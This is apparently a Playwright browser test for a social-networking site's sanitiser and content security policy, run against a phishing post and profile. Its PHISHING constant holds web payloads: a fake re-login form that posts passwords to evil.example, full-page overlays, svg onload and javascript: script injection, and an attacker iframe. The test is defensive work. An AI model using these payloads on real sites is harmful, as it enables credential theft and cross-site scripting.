/**
 * In real Chromium, with the site's CSP on: a phishing note (a full-page
 * fixed overlay, a fake login form, a stylesheet hiding the header) does
 * not cover the site's header on its author's profile; and none of our
 * own pages trips the CSP (no inline style or script of ours is refused).
 */
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { getRequestToken, registerClient, registerUser, signedRequest, userCreds } from "../support/oauth-client";
import { startTestServer, type TestServer } from "../support/server";
import { launchBrowser, newContext, NO_BROWSER, PASSWORD, postNote, register, screenshot } from "./support";

/** The tricks of a phishing post; text before the <style> keeps parsers from hoisting it away. */
const PHISHING = [
  `Hello <style>.site-header{display:none!important} .profile-card{visibility:hidden}</style>`,
  `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#fff;color:#000">`,
  `<h1>Your session expired</h1><form action="https://evil.example/steal" method="post">`,
  `<input name="password" type="password" placeholder="Password"><button type="submit">Log in again</button></form></div>`,
  `<p style="position:fixed;top:0;left:0;right:0;height:120px;background:red;z-index:99999">banner</p>`,
  `<svg onload="window.__xss='svg'" style="position:fixed;inset:0;width:100vw;height:100vh"><rect width="100%" height="100%"/></svg>`,
  `<a href="javascript:window.__xss='js'" style="position:fixed;inset:0;display:block">everywhere</a>`,
  `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" style="position:fixed;inset:0;width:100vw;height:100vh">`,
  `<iframe src="https://evil.example/" style="position:fixed;inset:0;width:100vw;height:100vh"></iframe>`,
].join("");

/** Records CSP violations in the page (the init script is injected by the browser, not subject to the CSP). */
async function recordViolations(ctx: BrowserContext): Promise<void> {
  await ctx.addInitScript(() => {
    const w = window as unknown as { __csp: string[] };
    w.__csp = [];
    document.addEventListener("securitypolicyviolation", (e) => {
      w.__csp.push(`${e.violatedDirective} ${e.blockedURI || "inline"} ${e.sourceFile}:${e.lineNumber}`);
    });
  });
}

async function violations(page: Page): Promise<string[]> {
  await page.waitForLoadState("load");
  return page.evaluate(() => (window as unknown as { __csp?: string[] }).__csp ?? ["(no recorder)"]);
}

/** Fails unless the site header is shown and is what the browser hits at its own points. */
async function assertHeaderOnTop(page: Page, where: string): Promise<void> {
  const header = page.locator("header.site-header");
  assert.ok(await header.isVisible(), `${where}: the header is hidden`);
  const box = await header.boundingBox();
  assert.ok(box && box.height > 10 && box.width > 600, `${where}: the header is squashed: ${JSON.stringify(box)}`);
  const hits = await page.evaluate(() => {
    const h = document.querySelector("header.site-header")!.getBoundingClientRect();
    const points = [0.02, 0.25, 0.5, 0.75, 0.98].map((fx) => [h.left + h.width * fx, h.top + h.height / 2] as const);
    return points.map(([x, y]) => {
      const el = document.elementFromPoint(x, y);
      return el && el.closest("header.site-header") ? "header" : `${el?.tagName}.${el?.className}`;
    });
  });
  assert.deepEqual(hits, Array(5).fill("header"), `${where}: something covers the header`);
  // Nothing laid over the page at all: no fixed element of a post.
  const fixed = await page.evaluate(() =>
    [...document.querySelectorAll("main *")].filter((el) => getComputedStyle(el).position === "fixed").map((el) => el.tagName),
  );
  assert.deepEqual(fixed, [], `${where}: fixed elements in the page body`);
}

describe("browser: CSP and the phishing post", { skip: NO_BROWSER ?? false }, () => {
  let server: TestServer;
  let browser: Browser;

  before(async () => {
    server = await startTestServer();
    browser = await launchBrowser();
  });
  after(async () => {
    await browser?.close();
    await server?.close();
  });

  test("a phishing note leaves the header visible and uncovered on its author's profile, and brings no form or style", async () => {
    const client = await registerClient(server.url);
    const mallory = await registerUser(server.url, client, "mallory", PASSWORD);
    const as = userCreds(client, mallory.token);
    const r = await signedRequest(server.url, as, "POST", "/api/user/mallory/feed", {
      verb: "post",
      to: [{ id: "http://activityschema.org/collection/public", objectType: "collection" }],
      object: { objectType: "note", content: PHISHING },
    });
    assert.equal(r.status, 200, r.text);
    const put = await signedRequest(server.url, as, "PUT", "/api/user/mallory/profile", { objectType: "person", summary: PHISHING });
    assert.equal(put.status, 200, put.text);

    for (const loggedIn of [false, true]) {
      const ctx = await newContext(browser, server.url);
      await recordViolations(ctx);
      const page = await ctx.newPage();
      if (loggedIn) await register(page, "victim");
      await page.goto("/mallory");
      await page.locator("ol[data-stream-url] > li", { hasText: "Hello" }).first().waitFor();
      await screenshot(page, `phishing-profile-${loggedIn ? "victim" : "anonymous"}`);
      const where = `mallory's profile (${loggedIn ? "logged in" : "anonymous"})`;
      await assertHeaderOnTop(page, where);
      const found = await page.evaluate(() => ({
        xss: (window as unknown as { __xss?: string }).__xss ?? null,
        posts: [...document.querySelectorAll(".entry-text, .bio")].flatMap((el) =>
          [...el.querySelectorAll("style, form, input, button, iframe, svg, img[src^='data:'], [style], [class], [id], a[href^='javascript:']")].map((x) => x.outerHTML.slice(0, 80)),
        ),
      }));
      assert.deepEqual(found, { xss: null, posts: [] }, where);
      // The sanitiser left nothing inline for the CSP to refuse.
      assert.deepEqual(await violations(page), [], where);
      assert.deepEqual(ctx.errors, [], where);
      await ctx.close();
    }
  });

  test("none of our own pages trips the CSP (no inline style or script of ours), and the favicon is a real icon", async () => {
    const ctx = await newContext(browser, server.url);
    await recordViolations(ctx);
    const page = await ctx.newPage();
    const seen: Record<string, string[]> = {};
    const visit = async (path: string): Promise<void> => {
      await page.goto(path);
      seen[path] = await violations(page);
    };
    for (const path of ["/", "/main/login", "/main/register", "/no/such/page"]) await visit(path);
    await register(page, "carol");
    seen["/ (after register)"] = await violations(page);
    await postNote(page, "A note for the pages");
    await page.locator("#major-inbox > li", { hasText: "A note for the pages" }).waitFor();
    const notePath = await page.locator("#major-inbox > li", { hasText: "A note for the pages" }).locator("a[href*='/note/']").first().getAttribute("href");
    assert.ok(notePath, "the note links to its page");
    for (const path of ["/carol", notePath, "/carol/followers", "/carol/following", "/carol/favorites", "/main/settings", "/main/account", "/main/messages"]) await visit(path);
    // An OAuth authorisation page (the one third-party apps send people to).
    const rt = await getRequestToken(server.url, await registerClient(server.url, { application_name: "CSP check" }));
    await visit(`/oauth/authorize?oauth_token=${encodeURIComponent(rt.token)}`);
    const bad = Object.entries(seen).filter(([, v]) => v.length > 0);
    assert.deepEqual(bad, [], "CSP violations on our own pages");
    assert.deepEqual(ctx.errors, []);
    // Our stylesheet still applies (the CSP allows 'self').
    const bg = await page.evaluate(() => getComputedStyle(document.querySelector("header.site-header")!).borderBottomStyle);
    assert.equal(bg, "solid");
    const icon = await page.evaluate(async () => {
      const img = new Image();
      img.src = "/favicon.ico";
      await img.decode();
      return [img.naturalWidth, img.naturalHeight];
    });
    assert.deepEqual(icon, [16, 16]);
    // The recorder works, and an inline style is indeed refused now.
    await page.evaluate(() => document.querySelector("main")!.insertAdjacentHTML("beforeend", `<p style="color: red">x</p>`));
    await page.waitForFunction(() => ((window as unknown as { __csp: string[] }).__csp ?? []).some((v) => v.startsWith("style-src")));
    await ctx.close();
  });
});
